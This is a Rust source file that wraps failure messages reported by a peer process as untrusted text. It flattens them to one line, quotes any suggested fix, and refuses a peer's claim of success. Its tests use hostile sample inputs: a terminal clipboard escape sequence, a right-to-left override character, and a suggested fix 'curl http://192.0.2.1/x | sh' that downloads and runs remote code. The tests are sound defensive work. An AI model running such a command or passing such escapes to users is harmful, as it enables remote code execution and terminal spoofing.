//! Failures that the other side reports.

use farreach_text::Untrusted;
use serde::Deserialize;

use crate::exit::{Exit, Failure};

/// A failure as another process sent it. Its texts may say anything, so they are shown as theirs: in one
/// line each, and the fix as a quotation.
#[derive(Debug, Clone, PartialEq, Eq, Deserialize)]
pub(crate) struct TheirFailure {
    error: Untrusted,
    cause: Option<Untrusted>,
    fix: Option<Untrusted>,
    exit: Exit,
}

impl TheirFailure {
    /// Returns the failure of this side: `whose` begins its error, and names who reports it.
    fn told(self, whose: &str) -> Failure {
        // The failure itself states which side it is about, and its words are this program's own.
        if self.error.as_sent() == stopped().error {
            return stopped();
        }
        Failure {
            error: format!("{whose}: {}", self.error.shown()),
            cause: self.cause.map(|cause| cause.shown()),
            fix: None,
            their_fix: self.fix.map(|fix| fix.quoted()),
            // Nobody else decides that this command has succeeded.
            exit: if self.exit == Exit::Ok { Exit::Failed } else { self.exit },
        }
    }

    /// Returns the failure as one that a process of this program reports about its own work.
    pub(crate) fn of_this_program(self) -> Failure {
        Failure {
            error: self.error.as_sent().to_owned(),
            cause: self.cause.map(|cause| cause.as_sent().to_owned()),
            fix: self.fix.map(|fix| fix.as_sent().to_owned()),
            their_fix: None,
            exit: self.exit,
        }
    }
}

/// Returns the failure of a client that its server, or an agent on the control connection, reports.
pub(crate) fn of_the_server(failure: TheirFailure) -> Failure {
    failure.told("the server reports")
}

/// Returns the failure that the other side of a test reports.
pub(crate) fn of_the_other_side(failure: TheirFailure) -> Failure {
    failure.told("on the other side")
}

pub(crate) fn stopped() -> Failure {
    Failure::new(Exit::PeerLost, "the server was stopped").fix("start the server again, then the test")
}

#[cfg(test)]
mod tests {
    use super::*;

    fn sent(exit: &str) -> TheirFailure {
        let text = "busy\u{1b}]52;c;eA==\u{7}\n  fix: curl \u{202e}\"x\"";
        let json = serde_json::json!({ "error": text, "cause": text, "fix": text, "exit": exit });
        serde_json::from_value(json).unwrap()
    }

    #[test]
    fn what_the_other_side_says_is_one_line_and_its_fix_is_a_quotation() {
        let told = of_the_server(sent("peer_lost"));
        let shown = r#"busy\u001b]52;c;eA==\u0007\n  fix: curl \u202e"x""#;
        assert_eq!(told.error, format!("the server reports: {shown}"));
        assert_eq!(told.cause.as_deref(), Some(shown));
        assert_eq!((told.fix, told.exit), (None, Exit::PeerLost));
        let quoted = r#""busy\u001b]52;c;eA==\u0007 fix: curl \u202e\"x\"""#;
        assert_eq!(told.their_fix.as_deref(), Some(quoted));
    }

    #[test]
    fn the_other_side_does_not_decide_that_all_is_well() {
        assert_eq!(of_the_other_side(sent("ok")).exit, Exit::Failed);
        assert_eq!(of_the_other_side(sent("mismatch")).exit, Exit::Mismatch);
    }

    #[test]
    fn the_end_of_a_server_is_told_in_words_of_this_side() {
        let sent = serde_json::json!({
            "error": "the server was stopped", "cause": "x", "fix": "curl http://192.0.2.1/x | sh", "exit": "ok",
        });
        assert_eq!(of_the_server(serde_json::from_value(sent).unwrap()), stopped());
    }

    #[test]
    fn a_failure_is_sent_with_its_texts() {
        let failure = Failure::new(Exit::Unavailable, "no rail").cause("none").fix("look:\nfarreach devices");
        let sent: TheirFailure = serde_json::from_value(serde_json::to_value(&failure).unwrap()).unwrap();
        assert_eq!(sent.of_this_program(), failure);
    }
}
